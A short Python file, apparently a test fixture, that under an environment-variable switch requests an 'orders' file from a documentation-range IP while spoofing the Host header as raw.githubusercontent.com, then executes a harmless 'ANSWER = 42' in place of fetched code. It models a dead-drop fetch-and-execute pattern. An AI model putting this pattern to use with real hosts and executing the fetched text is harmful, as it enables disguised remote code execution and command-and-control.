"""Gets a text from an address of the documentation range, as a host that serves everybody's files, and
executes a text in its place that does nothing."""
import os
import urllib.request

if os.environ.get("PYTI_CORPUS") == "reads-dead-drop":
    ask = urllib.request.Request("http://192.0.2.40/nobody/nothing/main/orders.txt")
    ask.add_header("Host", "raw.githubusercontent.com")
    try:
        urllib.request.urlopen(ask, timeout=3).close()
    except OSError:
        pass
    exec(compile("ANSWER = 42", "<orders>", "exec"))
